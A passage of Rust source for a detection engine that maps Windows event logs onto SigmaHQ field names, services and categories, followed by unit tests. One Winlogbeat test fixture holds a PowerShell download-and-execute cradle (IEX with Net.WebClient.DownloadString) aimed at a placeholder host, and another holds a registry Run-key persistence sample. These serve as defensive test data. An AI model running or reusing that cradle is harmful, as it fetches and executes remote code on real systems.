//! Windows events as SigmaHQ's Windows rules see them. Whatever JSON shape a Windows event arrives
//! in (the evtx crate's rendering of a `.evtx` record, NXLog's `im_msvistalog`, Winlogbeat/ECS), it
//! becomes one event: the System fields under their Sigma names (`EventID`, `Channel`,
//! `Provider_Name`, `Computer`...), the EventData and UserData fields under their own names, the
//! channel as Sigma's `service`, and the Sigma `category` the event belongs to (Sysmon event 1 and
//! Security event 4688 are both `process_creation`), with the field names SigmaHQ's pipelines map
//! for it (4688's `NewProcessName` is also `Image`). Pure.

use std::borrow::Cow;

use jiff::tz::TimeZone;

use super::{DecodeContext, parse_iso_timestamp};
use crate::model::{Event, Format};

pub const PRODUCT: &str = "windows";

/// Sigma's Windows services and the event log channels that feed them: SigmaHQ's own list
/// (`pySigma` `windows_logsource_mapping` and the logsource list of the rule repository's tests).
const SERVICES: &[(&str, &[&str])] = &[
    ("security", &["Security"]),
    ("system", &["System"]),
    ("application", &["Application"]),
    ("sysmon", &["Microsoft-Windows-Sysmon/Operational"]),
    (
        "powershell",
        &[
            "Microsoft-Windows-PowerShell/Operational",
            "PowerShellCore/Operational",
        ],
    ),
    ("powershell-classic", &["Windows PowerShell"]),
    (
        "windefend",
        &["Microsoft-Windows-Windows Defender/Operational"],
    ),
    (
        "taskscheduler",
        &["Microsoft-Windows-TaskScheduler/Operational"],
    ),
    ("wmi", &["Microsoft-Windows-WMI-Activity/Operational"]),
    ("dns-server", &["DNS Server"]),
    ("dns-server-audit", &["Microsoft-Windows-DNS-Server/Audit"]),
    (
        "dns-server-analytic",
        &["Microsoft-Windows-DNS-Server/Analytical"],
    ),
    (
        "dns-client",
        &["Microsoft-Windows-DNS Client Events/Operational"],
    ),
    (
        "driver-framework",
        &["Microsoft-Windows-DriverFrameworks-UserMode/Operational"],
    ),
    ("ntlm", &["Microsoft-Windows-NTLM/Operational"]),
    ("dhcp", &["Microsoft-Windows-DHCP-Server/Operational"]),
    ("msexchange-management", &["MSExchange Management"]),
    (
        "applocker",
        &[
            "Microsoft-Windows-AppLocker/MSI and Script",
            "Microsoft-Windows-AppLocker/EXE and DLL",
            "Microsoft-Windows-AppLocker/Packaged app-Deployment",
            "Microsoft-Windows-AppLocker/Packaged app-Execution",
        ],
    ),
    (
        "printservice-admin",
        &["Microsoft-Windows-PrintService/Admin"],
    ),
    (
        "printservice-operational",
        &["Microsoft-Windows-PrintService/Operational"],
    ),
    (
        "codeintegrity-operational",
        &["Microsoft-Windows-CodeIntegrity/Operational"],
    ),
    (
        "smbclient-security",
        &["Microsoft-Windows-SmbClient/Security"],
    ),
    (
        "smbclient-connectivity",
        &["Microsoft-Windows-SmbClient/Connectivity"],
    ),
    (
        "smbserver-connectivity",
        &["Microsoft-Windows-SMBServer/Connectivity"],
    ),
    (
        "firewall-as",
        &["Microsoft-Windows-Windows Firewall With Advanced Security/Firewall"],
    ),
    (
        "bits-client",
        &["Microsoft-Windows-Bits-Client/Operational"],
    ),
    (
        "terminalservices-localsessionmanager",
        &["Microsoft-Windows-TerminalServices-LocalSessionManager/Operational"],
    ),
    (
        "microsoft-servicebus-client",
        &[
            "Microsoft-ServiceBus-Client",
            "Microsoft-ServiceBus-Client/Admin",
            "Microsoft-ServiceBus-Client/Operational",
        ],
    ),
    ("ldap", &["Microsoft-Windows-LDAP-Client/Debug"]),
    (
        "security-mitigations",
        &[
            "Microsoft-Windows-Security-Mitigations/Kernel Mode",
            "Microsoft-Windows-Security-Mitigations/User Mode",
        ],
    ),
    (
        "diagnosis-scripted",
        &["Microsoft-Windows-Diagnosis-Scripted/Operational"],
    ),
    ("shell-core", &["Microsoft-Windows-Shell-Core/Operational"]),
    ("openssh", &["OpenSSH/Operational"]),
    (
        "bitlocker",
        &["Microsoft-Windows-BitLocker/BitLocker Management"],
    ),
    ("vhdmp", &["Microsoft-Windows-VHDMP/Operational"]),
    (
        "appxdeployment-server",
        &["Microsoft-Windows-AppXDeploymentServer/Operational"],
    ),
    ("lsa-server", &["Microsoft-Windows-LSA/Operational"]),
    (
        "appxpackaging-om",
        &["Microsoft-Windows-AppxPackaging/Operational"],
    ),
    (
        "appmodel-runtime",
        &["Microsoft-Windows-AppModel-Runtime/Admin"],
    ),
    ("capi2", &["Microsoft-Windows-CAPI2/Operational"]),
    (
        "certificateservicesclient-lifecycle-system",
        &["Microsoft-Windows-CertificateServicesClient-Lifecycle-System/Operational"],
    ),
    (
        "kernel-shimengine",
        &[
            "Microsoft-Windows-Kernel-ShimEngine/Operational",
            "Microsoft-Windows-Kernel-ShimEngine/Diagnostic",
        ],
    ),
    (
        "application-experience",
        &[
            "Microsoft-Windows-Application-Experience/Program-Telemetry",
            "Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
        ],
    ),
    ("ntfs", &["Microsoft-Windows-Ntfs/Operational"]),
    ("hyper-v-worker", &["Microsoft-Windows-Hyper-V-Worker"]),
    (
        "kernel-event-tracing",
        &["Microsoft-Windows-Kernel-EventTracing"],
    ),
    ("sense", &["Microsoft-Windows-SENSE/Operational"]),
    (
        "iis-configuration",
        &["Microsoft-IIS-Configuration/Operational"],
    ),
];

/// Sysmon's event ids and the Sigma categories they are (SigmaHQ's Sysmon pipeline). Event 12 is
/// refined by its `EventType` (see `category_of`).
const SYSMON: &[(&str, &str)] = &[
    ("1", "process_creation"),
    ("2", "file_change"),
    ("3", "network_connection"),
    ("4", "sysmon_status"),
    ("5", "process_termination"),
    ("6", "driver_load"),
    ("7", "image_load"),
    ("8", "create_remote_thread"),
    ("9", "raw_access_thread"),
    ("10", "process_access"),
    ("11", "file_event"),
    ("12", "registry_add"),
    ("13", "registry_set"),
    ("14", "registry_rename"),
    ("15", "create_stream_hash"),
    ("16", "sysmon_status"),
    ("17", "pipe_created"),
    ("18", "pipe_created"),
    ("19", "wmi_event"),
    ("20", "wmi_event"),
    ("21", "wmi_event"),
    ("22", "dns_query"),
    ("23", "file_delete"),
    ("24", "clipboard_change"),
    ("25", "process_tampering"),
    ("26", "file_delete_detected"),
    ("27", "file_block_executable"),
    ("28", "file_block_shredding"),
    ("29", "file_executable_detected"),
    ("255", "sysmon_error"),
];

/// Other channels' events that are a Sigma category: (service, event id, category).
const CATEGORIES: &[(&str, &str, &str)] = &[
    // SigmaHQ's Windows audit pipeline: process creation from the Security log.
    ("security", "4688", "process_creation"),
    ("powershell", "4103", "ps_module"),
    ("powershell", "4104", "ps_script"),
    ("powershell-classic", "400", "ps_classic_start"),
    ("powershell-classic", "600", "ps_classic_provider_start"),
    ("powershell-classic", "800", "ps_classic_script"),
];

/// Defender's detection events, which SigmaHQ reads as the `antivirus` category.
const DEFENDER_DETECTIONS: &[&str] = &[
    "1006", "1007", "1008", "1009", "1010", "1011", "1012", "1017", "1018", "1019", "1115", "1116",
];

/// The Sigma categories whose events a rule of `category` sees. Sigma's pipelines send every
/// Sysmon event 12 to both registry_add and registry_delete rules, every registry event to
/// registry_event rules, and Sysmon 26 to file_delete rules too.
pub fn satisfying(category: &str) -> &'static [&'static str] {
    match category {
        "registry_add" | "registry_delete" => &["registry_add", "registry_delete"],
        "registry_event" => &[
            "registry_event",
            "registry_add",
            "registry_delete",
            "registry_set",
            "registry_rename",
        ],
        "file_delete" => &["file_delete", "file_delete_detected"],
        _ => &[],
    }
}

/// Sigma's service for an event log channel (case-insensitive, as Windows treats channel names).
pub fn service_of_channel(channel: &str) -> Option<&'static str> {
    SERVICES
        .iter()
        .find(|(_, channels)| channels.iter().any(|c| c.eq_ignore_ascii_case(channel)))
        .map(|(service, _)| *service)
}

/// The Sigma services a Windows rule may name (for the load report).
pub fn is_known_service(service: &str) -> bool {
    SERVICES.iter().any(|(s, _)| *s == service)
}

/// The Sigma category of an event of `service` with `event_id`, if it is one.
fn category_of(service: &str, event_id: &str, event: &Event<'_>) -> Option<&'static str> {
    match service {
        "sysmon" => {
            let category = SYSMON.iter().find(|(id, _)| *id == event_id)?.1;
            let deletes = event_id == "12"
                && event
                    .get("EventType")
                    .is_some_and(|t| t.len() >= 6 && t[..6].eq_ignore_ascii_case("delete"));
            Some(if deletes { "registry_delete" } else { category })
        }
        "security" if event_id == "4657" => {
            // OperationType as rendered (Winlogbeat, NXLog) or as the message id the .evtx holds.
            match event.get("OperationType")? {
                "%%1904" | "New registry value created" => Some("registry_add"),
                "%%1905" | "Existing registry value modified" => Some("registry_set"),
                "%%1906" | "Registry value deleted" => Some("registry_delete"),
                _ => None,
            }
        }
        "windefend" if DEFENDER_DETECTIONS.contains(&event_id) => Some("antivirus"),
        _ => CATEGORIES
            .iter()
            .find(|(s, id, _)| *s == service && *id == event_id)
            .map(|(_, _, category)| *category),
    }
}

/// The JSON shapes a Windows event comes in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shape {
    /// `{"Event": {"System": {...}, "EventData": {...}}}`: the evtx crate's rendering of a record.
    Evtx,
    /// `{"winlog": {"event_id", "channel", "event_data": {...}}, ...}`: Winlogbeat / ECS.
    Winlogbeat,
    /// System and EventData fields side by side at the top: NXLog `im_msvistalog`, Sysmon JSON.
    Flat,
}

fn shape(event: &Event<'_>) -> Option<Shape> {
    let has = |key: &str| event.fields.iter().any(|(k, _)| k == key);
    if has("Event.System.EventID") || has("Event.System.EventID.#text") {
        Some(Shape::Evtx)
    } else if has("winlog.event_id") || has("winlog.channel") {
        Some(Shape::Winlogbeat)
    } else if has("EventID")
        && (has("Channel") || has("SourceName") || has("Provider_Name") || has("ProviderName"))
    {
        Some(Shape::Flat)
    } else {
        None
    }
}

/// Makes a decoded JSON object a Windows event if it has the shape of one (or `forced`: the
/// source is configured `format = "windows"`). False, and the event untouched, otherwise.
pub(crate) fn from_json(event: &mut Event<'_>, ctx: &DecodeContext, forced: bool) -> bool {
    let shape = match shape(event) {
        Some(shape) => shape,
        None if forced => Shape::Flat,
        None => return false,
    };
    let mut data: Vec<usize> = Vec::new();
    match shape {
        Shape::Evtx => {
            event
                .fields
                .retain(|(k, _)| !k.starts_with("Event.#attributes"));
            for (i, (key, _)) in event.fields.iter_mut().enumerate() {
                let (name, is_data) = evtx_name(key);
                if is_data {
                    data.push(i);
                }
                if let Some(name) = name {
                    *key = name;
                }
            }
        }
        Shape::Winlogbeat => {
            for (i, (key, _)) in event.fields.iter_mut().enumerate() {
                let (name, is_data) = winlogbeat_name(key);
                if is_data {
                    data.push(i);
                }
                if let Some(name) = name {
                    *key = name;
                }
            }
            alias(event, "EventID", "event.code");
            ecs_names(event);
        }
        Shape::Flat => {
            alias(event, "Provider_Name", "SourceName");
            alias(event, "Provider_Name", "ProviderName");
            alias(event, "Computer", "Hostname");
            alias(event, "EventRecordID", "RecordNumber");
        }
    }
    if !data.is_empty() {
        // The channel that names the service is System's: UserData may hold one too (event 104
        // says which log was cleared there), and that is the one a rule's `Channel` means.
        let system_channel = event
            .fields
            .iter()
            .enumerate()
            .find(|(i, (k, _))| k == "Channel" && !data.contains(i))
            .map(|(_, (_, v))| v.as_ref());
        if let Some(service) = system_channel.and_then(service_of_channel) {
            event.logsource.service = Some(Cow::Borrowed(service));
        }
    }
    join_data(event, &data);
    data_first(event, &data);
    let utc = TimeZone::UTC;
    let stamp = |event: &Event<'_>, key: &str, zone: &TimeZone| {
        event.get(key).and_then(|v| parse_iso_timestamp(v, zone))
    };
    event.ts = stamp(event, "TimeCreated", &ctx.zone)
        .or_else(|| stamp(event, "EventTime", &ctx.zone))
        .or(event.ts)
        // Sysmon writes its own time in UTC, without saying so.
        .or_else(|| stamp(event, "UtcTime", &utc));
    alias(event, "host", "Computer");
    event.format = Format::Windows;
    event.logsource.product = Some(Cow::Borrowed(PRODUCT));
    true
}

/// A syslog line whose message is a Windows event as JSON (NXLog's `to_syslog_bsd()` or
/// `to_syslog_ietf()` after `to_json()`, a forwarder's JSON template): the event's fields join the
/// syslog ones and it is a Windows event. Any other syslog line is returned as it is.
pub(crate) fn in_syslog<'a>(mut event: Event<'a>, ctx: &DecodeContext) -> Event<'a> {
    let message = event.fields.iter().find_map(|(k, v)| match v {
        Cow::Borrowed(text) if k == "message" => Some(*text),
        _ => None,
    });
    let Some(message) = message.filter(|m| m.starts_with('{')) else {
        return event;
    };
    let Some(inner) = super::json::decode(message, ctx) else {
        return event;
    };
    if inner.format != Format::Windows {
        return event;
    }
    event.ts = inner.ts.or(event.ts);
    event.logsource = inner.logsource;
    event.format = Format::Windows;
    event.fields.extend(inner.fields);
    event.derived.extend(inner.derived);
    event
}

/// The Sigma name of an evtx-rendered key (`Event.System.Provider.#attributes.Name` is
/// `Provider_Name`), and whether the key is part of the event's data (EventData, UserData).
fn evtx_name(key: &str) -> (Option<Cow<'static, str>>, bool) {
    let Some(rest) = key.strip_prefix("Event.") else {
        return (None, false);
    };
    if let Some(system) = rest.strip_prefix("System.") {
        let name = match system {
            "Provider.#attributes.Name" => "Provider_Name",
            "Provider.#attributes.Guid" => "Provider_Guid",
            "EventID.#text" | "EventID" => "EventID",
            "EventID.#attributes.Qualifiers" => "Qualifiers",
            // Its one attribute is the time the event was written.
            time if time.starts_with("TimeCreated.#attributes.") => "TimeCreated",
            // Named apart from EventData's `ProcessId`, which rules mean when they say it.
            "Execution.#attributes.ProcessID" => "ExecutionProcessID",
            "Execution.#attributes.ThreadID" => "ExecutionThreadID",
            "Security.#attributes.UserID" => "UserID",
            other => {
                return (
                    Some(Cow::Owned(
                        other.replace("#attributes.", "").replace('.', "_"),
                    )),
                    false,
                );
            }
        };
        return (Some(Cow::Borrowed(name)), false);
    }
    if let Some(data) = rest.strip_prefix("EventData.") {
        // Unnamed `<Data>` elements (classic events): `Data`, `Data.#text`, `Data.#text.0`...
        if data == "Data" || data.starts_with("Data.") {
            return (Some(Cow::Borrowed("Data")), true);
        }
        return (Some(Cow::Owned(data.to_string())), true);
    }
    if let Some(user) = rest.strip_prefix("UserData.") {
        // `UserData.<Element>.<Field>`: the element only wraps the fields.
        let field = user.split_once('.').map_or(user, |(_, field)| field);
        if field.starts_with("#attributes") {
            return (None, false);
        }
        return (Some(Cow::Owned(field.to_string())), true);
    }
    if rest == "RenderingInfo.Message" {
        return (Some(Cow::Borrowed("Message")), false);
    }
    (None, false)
}

/// As `evtx_name`, for Winlogbeat's `winlog.*` keys.
fn winlogbeat_name(key: &str) -> (Option<Cow<'static, str>>, bool) {
    let Some(rest) = key.strip_prefix("winlog.") else {
        return (None, false);
    };
    if let Some(field) = rest
        .strip_prefix("event_data.")
        .or_else(|| rest.strip_prefix("user_data."))
    {
        if field == "xml_name" {
            return (None, false);
        }
        return (Some(Cow::Owned(field.to_string())), true);
    }
    let name = match rest {
        "event_id" => "EventID",
        "channel" => "Channel",
        "provider_name" => "Provider_Name",
        "provider_guid" => "Provider_Guid",
        "computer_name" => "Computer",
        "record_id" => "EventRecordID",
        "process.pid" => "ExecutionProcessID",
        "process.thread.id" => "ExecutionThreadID",
        "user.identifier" => "UserID",
        "opcode" => "Opcode",
        "task" => "Task",
        "version" => "Version",
        _ => return (None, false),
    };
    (Some(Cow::Borrowed(name)), false)
}

/// ECS fields that Winlogbeat's Sysmon and Security modules move event data to (renamed, so the
/// `winlog.event_data` key is gone), back under Sigma's names: the reverse of SigmaHQ's ECS pipeline.
const ECS: &[(&str, &str)] = &[
    ("process.executable", "Image"),
    ("process.command_line", "CommandLine"),
    ("process.pid", "ProcessId"),
    ("process.entity_id", "ProcessGuid"),
    ("process.working_directory", "CurrentDirectory"),
    ("process.parent.executable", "ParentImage"),
    ("process.parent.command_line", "ParentCommandLine"),
    ("process.parent.pid", "ParentProcessId"),
    ("process.parent.entity_id", "ParentProcessGuid"),
    ("process.pe.original_file_name", "OriginalFileName"),
    ("process.pe.description", "Description"),
    ("process.pe.product", "Product"),
    ("process.pe.company", "Company"),
    ("process.pe.file_version", "FileVersion"),
    ("file.path", "TargetFilename"),
    ("source.ip", "SourceIp"),
    ("source.port", "SourcePort"),
    ("source.domain", "SourceHostname"),
    ("destination.ip", "DestinationIp"),
    ("destination.port", "DestinationPort"),
    ("destination.domain", "DestinationHostname"),
    ("dns.question.name", "QueryName"),
    ("registry.path", "TargetObject"),
];

fn ecs_names(event: &mut Event<'_>) {
    for (ecs, sigma) in ECS {
        alias(event, sigma, ecs);
    }
    if event.get("User").is_none()
        && let (Some(domain), Some(name)) = (event.get("user.domain"), event.get("user.name"))
    {
        let user = format!("{domain}\\{name}");
        synthesize(event, "User", user);
    }
}

/// `Data` is the event's data as a whole (as SigmaHQ's rules read it): the unnamed `<Data>`
/// values of a classic event, or every EventData value, joined by spaces.
fn join_data(event: &mut Event<'_>, data: &[usize]) {
    if data.is_empty() {
        return;
    }
    let unnamed: Vec<usize> = data
        .iter()
        .copied()
        .filter(|&i| event.fields[i].0 == "Data")
        .collect();
    let parts = if unnamed.is_empty() { data } else { &unnamed };
    if parts.len() == 1 && !unnamed.is_empty() {
        return;
    }
    let joined = parts
        .iter()
        .map(|&i| event.fields[i].1.as_ref())
        .collect::<Vec<_>>()
        .join(" ");
    // The unnamed values are kept apart under `Data.N`, so `Data` names the whole.
    for (n, &i) in unnamed.iter().enumerate() {
        event.fields[i].0 = Cow::Owned(format!("Data.{n}"));
    }
    event.derived.push(Cow::Owned(joined.clone()));
    event
        .fields
        .push((Cow::Borrowed("Data"), Cow::Owned(joined)));
}

/// Puts the EventData and UserData fields before the System ones, so that where both have a
/// field of one name, a rule reads the event's own.
fn data_first(event: &mut Event<'_>, data: &[usize]) {
    if data.is_empty() {
        return;
    }
    let fields = std::mem::take(&mut event.fields);
    let (first, rest): (Vec<_>, Vec<_>) = fields
        .into_iter()
        .enumerate()
        .partition(|(i, _)| data.contains(i));
    event.fields = first.into_iter().chain(rest).map(|(_, f)| f).collect();
}

/// Adds `name` with the value of `from`, unless the event has `name` already.
fn alias(event: &mut Event<'_>, name: &'static str, from: &str) {
    if event.get(name).is_some() {
        return;
    }
    if let Some(value) = event
        .fields
        .iter()
        .find(|(k, _)| k == from)
        .map(|(_, v)| v.clone())
    {
        event.fields.push((Cow::Borrowed(name), value));
    }
}

/// Adds a field whose value is not a substring of the line: the prefilter must see it too.
fn synthesize(event: &mut Event<'_>, name: &'static str, value: String) {
    if event.get(name).is_some() {
        return;
    }
    event.derived.push(Cow::Owned(value.clone()));
    event.fields.push((Cow::Borrowed(name), Cow::Owned(value)));
}

/// Completes a Windows event once its logsource is final (after a source's configured logsource
/// was applied): the service from the channel, the category from the service and event id, and
/// the field names SigmaHQ's pipelines give that category. Anything not Windows is left alone.
pub fn complete(event: &mut Event<'_>) {
    if !event
        .logsource
        .product
        .as_deref()
        .is_some_and(|p| p.eq_ignore_ascii_case(PRODUCT))
    {
        return;
    }
    if event.logsource.service.is_none()
        && let Some(service) = event.get("Channel").and_then(service_of_channel)
    {
        event.logsource.service = Some(Cow::Borrowed(service));
    }
    spaced_names(event);
    let Some(service) = event
        .logsource
        .service
        .as_deref()
        .map(str::to_ascii_lowercase)
    else {
        return;
    };
    let Some(event_id) = event.get("EventID").map(str::to_string) else {
        return;
    };
    if event.logsource.category.is_none()
        && let Some(category) = category_of(&service, &event_id, event)
    {
        event.logsource.category = Some(Cow::Borrowed(category));
    }
    match service.as_str() {
        "security" => security_names(event, &event_id),
        "windefend" => {
            // SigmaHQ's antivirus rules name the threat `Signature` and the file `Filename`.
            alias(event, "Signature", "ThreatName");
            alias(event, "Filename", "Path");
        }
        _ => {}
    }
}

/// Fields whose names hold spaces (Defender's `Threat Name`) also go by the names SigmaHQ's rules
/// use: the spaces removed (`ThreatName`) and as underscores (`Feature_Name`).
fn spaced_names(event: &mut Event<'_>) {
    if !event.fields.iter().any(|(k, _)| k.contains(' ')) {
        return;
    }
    let spaced: Vec<(String, Cow<'_, str>)> = event
        .fields
        .iter()
        .filter(|(k, _)| k.contains(' '))
        .map(|(k, v)| (k.to_string(), v.clone()))
        .collect();
    for (key, value) in spaced {
        for name in [key.replace(' ', ""), key.replace(' ', "_")] {
            if event.get(&name).is_none() {
                event.fields.push((Cow::Owned(name), value.clone()));
            }
        }
    }
}

/// The Security log's names for what Sysmon and SigmaHQ's rules call otherwise (SigmaHQ's Windows
/// audit pipeline: `Image` is `NewProcessName`...).
fn security_names(event: &mut Event<'_>, event_id: &str) {
    alias(event, "LogonId", "SubjectLogonId");
    alias(event, "Details", "NewValue");
    match event_id {
        "4688" => {
            alias(event, "Image", "NewProcessName");
            alias(event, "ParentImage", "ParentProcessName");
            if let (Some(domain), Some(user)) =
                (event.get("SubjectDomainName"), event.get("SubjectUserName"))
            {
                let user = format!("{domain}\\{user}");
                synthesize(event, "User", user);
            }
            let level = match event.get("MandatoryLabel") {
                Some("S-1-16-4096") => Some("Low"),
                Some("S-1-16-8192") => Some("Medium"),
                Some("S-1-16-12288") => Some("High"),
                Some("S-1-16-16384") => Some("System"),
                _ => None,
            };
            if let Some(level) = level {
                synthesize(event, "IntegrityLevel", level.to_string());
            }
        }
        "4657" => {
            if let Some(key) = event.get("ObjectName") {
                let key = registry_path(key);
                let target = match event.get("ObjectValueName") {
                    Some(value) if !value.is_empty() => format!("{key}\\{value}"),
                    _ => key,
                };
                synthesize(event, "TargetObject", target);
            }
        }
        _ => {}
    }
}

/// `\REGISTRY\MACHINE\SOFTWARE\...` as Sysmon (and so SigmaHQ's rules) write it: `HKLM\SOFTWARE\...`.
fn registry_path(key: &str) -> String {
    const ROOTS: [(&str, &str); 2] = [("\\REGISTRY\\MACHINE", "HKLM"), ("\\REGISTRY\\USER", "HKU")];
    for (root, short) in ROOTS {
        if key.len() >= root.len() && key[..root.len()].eq_ignore_ascii_case(root) {
            return format!("{short}{}", &key[root.len()..]);
        }
    }
    key.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::test_support::zurich_ctx;

    fn decode(line: &str) -> Event<'_> {
        let mut event = crate::decode::json::decode(line, &zurich_ctx()).expect("json");
        complete(&mut event);
        event
    }

    fn logsource<'e>(event: &'e Event<'_>) -> (Option<&'e str>, Option<&'e str>, Option<&'e str>) {
        (
            event.logsource.product.as_deref(),
            event.logsource.service.as_deref(),
            event.logsource.category.as_deref(),
        )
    }

    #[test]
    fn the_evtx_rendering_gets_sigma_names() {
        let line = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Level":4,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-22T03:01:02.123456Z"}},"EventRecordID":7,"Execution":{"#attributes":{"ProcessID":2404,"ThreadID":3100}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","ProcessId":"4711"}}}"##;
        let event = decode(line);
        assert_eq!(
            logsource(&event),
            (Some("windows"), Some("sysmon"), Some("process_creation"))
        );
        for (key, value) in [
            ("EventID", "1"),
            ("Provider_Name", "Microsoft-Windows-Sysmon"),
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("Computer", "ws-01.corp.local"),
            ("host", "ws-01.corp.local"),
            ("Image", "C:\\Windows\\System32\\whoami.exe"),
            ("ProcessId", "4711"),
            ("ExecutionProcessID", "2404"),
            ("UserID", "S-1-5-18"),
            ("EventRecordID", "7"),
            ("Data", "C:\\Windows\\System32\\whoami.exe whoami /all 4711"),
        ] {
            assert_eq!(event.get(key), Some(value), "{key}: {:?}", event.fields);
        }
        assert_eq!(event.ts.unwrap().to_string(), "2026-11-22T03:01:02.123456Z");
        assert_eq!(event.format, Format::Windows);
    }

    #[test]
    fn classic_events_keep_their_unnamed_data_as_one_text() {
        let line = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Application Error"}},"EventID":{"#attributes":{"Qualifiers":0},"#text":1000},"Channel":"Application","Computer":"srv"},"EventData":{"Data":{"#text":["MsMpEng.exe","4.18","mpengine.dll"]}}}}"##;
        let event = decode(line);
        assert_eq!(event.get("EventID"), Some("1000"));
        assert_eq!(event.get("Data"), Some("MsMpEng.exe 4.18 mpengine.dll"));
        assert_eq!(event.get("Data.2"), Some("mpengine.dll"));
        assert_eq!(
            logsource(&event),
            (Some("windows"), Some("application"), None)
        );
        let user_data = r##"{"Event":{"System":{"EventID":1102,"Channel":"Security","Computer":"dc"},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"x"},"SubjectUserName":"mallory"}}}}"##;
        let event = decode(user_data);
        assert_eq!(event.get("SubjectUserName"), Some("mallory"));
        assert_eq!(event.get("Data"), Some("mallory"));
        // Event 104 of the System log names the cleared log `Channel` in its UserData.
        let cleared = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":104,"Channel":"System","Computer":"dc"},"UserData":{"LogFileCleared":{"SubjectUserName":"mallory","Channel":"Application"}}}}"##;
        let event = decode(cleared);
        assert_eq!(event.get("Channel"), Some("Application"));
        assert_eq!(logsource(&event), (Some("windows"), Some("system"), None));
    }

    #[test]
    fn security_4688_is_process_creation_with_sysmon_names() {
        let line = r##"{"EventTime":"2026-11-22 10:01:02","Hostname":"ws-02","SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventID":4688,"SubjectUserName":"alice","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7","NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"whoami /priv","MandatoryLabel":"S-1-16-12288"}"##;
        let event = decode(line);
        assert_eq!(
            logsource(&event),
            (Some("windows"), Some("security"), Some("process_creation"))
        );
        for (key, value) in [
            ("Image", "C:\\Windows\\System32\\whoami.exe"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ("User", "CORP\\alice"),
            ("IntegrityLevel", "High"),
            ("LogonId", "0x3e7"),
            ("Provider_Name", "Microsoft-Windows-Security-Auditing"),
            ("Computer", "ws-02"),
            ("host", "ws-02"),
        ] {
            assert_eq!(event.get(key), Some(value), "{key}");
        }
        // NXLog's EventTime is the sender's local time; this context's zone is Zurich.
        assert_eq!(event.ts.unwrap().to_string(), "2026-11-22T09:01:02Z");
        // Synthesized texts are searched by the prefilter.
        assert!(event.derived.iter().any(|d| d == "CORP\\alice"));
    }

    #[test]
    fn winlogbeat_events() {
        let line = r##"{"@timestamp":"2026-11-22T03:01:02.000Z","event":{"code":"4104"},"host":{"name":"ws-03"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":"4104","provider_name":"Microsoft-Windows-PowerShell","computer_name":"ws-03.corp","record_id":"99","event_data":{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x')","Path":""}}}"##;
        let event = decode(line);
        assert_eq!(
            logsource(&event),
            (Some("windows"), Some("powershell"), Some("ps_script"))
        );
        assert_eq!(event.get("EventID"), Some("4104"));
        assert_eq!(event.get("Computer"), Some("ws-03.corp"));
        assert_eq!(event.get("host"), Some("ws-03"));
        assert!(event.get("ScriptBlockText").unwrap().starts_with("IEX"));
        assert_eq!(event.ts.unwrap().to_string(), "2026-11-22T03:01:02Z");
    }

    #[test]
    fn winlogbeat_modules_ecs_fields_get_sigma_names() {
        // Winlogbeat's Sysmon module renames event data into ECS fields.
        let line = r##"{"@timestamp":"2026-11-22T03:01:02.000Z","event":{"code":"1"},"process":{"executable":"C:\\Windows\\System32\\whoami.exe","command_line":"whoami /all","pid":4711,"parent":{"executable":"C:\\Windows\\System32\\cmd.exe"},"pe":{"original_file_name":"whoami.exe"}},"user":{"domain":"CORP","name":"alice"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"ws-05","event_data":{"IntegrityLevel":"High"}}}"##;
        let event = decode(line);
        for (key, value) in [
            ("Image", "C:\\Windows\\System32\\whoami.exe"),
            ("CommandLine", "whoami /all"),
            ("ProcessId", "4711"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ("OriginalFileName", "whoami.exe"),
            ("User", "CORP\\alice"),
            ("IntegrityLevel", "High"),
        ] {
            assert_eq!(event.get(key), Some(value), "{key}");
        }
        assert_eq!(
            event.logsource.category.as_deref(),
            Some("process_creation")
        );
    }

    #[test]
    fn categories_follow_the_event_not_the_channel_alone() {
        let cases = [
            (
                r##"{"EventID":12,"Channel":"Microsoft-Windows-Sysmon/Operational","EventType":"DeleteKey"}"##,
                Some("registry_delete"),
            ),
            (
                r##"{"EventID":12,"Channel":"Microsoft-Windows-Sysmon/Operational","EventType":"CreateKey"}"##,
                Some("registry_add"),
            ),
            (
                r##"{"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational"}"##,
                Some("registry_set"),
            ),
            (
                r##"{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational"}"##,
                Some("network_connection"),
            ),
            (r##"{"EventID":4624,"Channel":"Security"}"##, None),
            (
                r##"{"EventID":4657,"Channel":"Security","OperationType":"%%1905","ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Run","ObjectValueName":"evil","NewValue":"x.exe"}"##,
                Some("registry_set"),
            ),
            (
                r##"{"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","Threat Name":"Trojan:Win32/X"}"##,
                Some("antivirus"),
            ),
            (
                r##"{"EventID":400,"Channel":"Windows PowerShell"}"##,
                Some("ps_classic_start"),
            ),
        ];
        for (line, category) in cases {
            assert_eq!(
                decode(line).logsource.category.as_deref(),
                category,
                "{line}"
            );
        }
        let registry = decode(cases[5].0);
        assert_eq!(
            registry.get("TargetObject"),
            Some("HKLM\\SOFTWARE\\Run\\evil")
        );
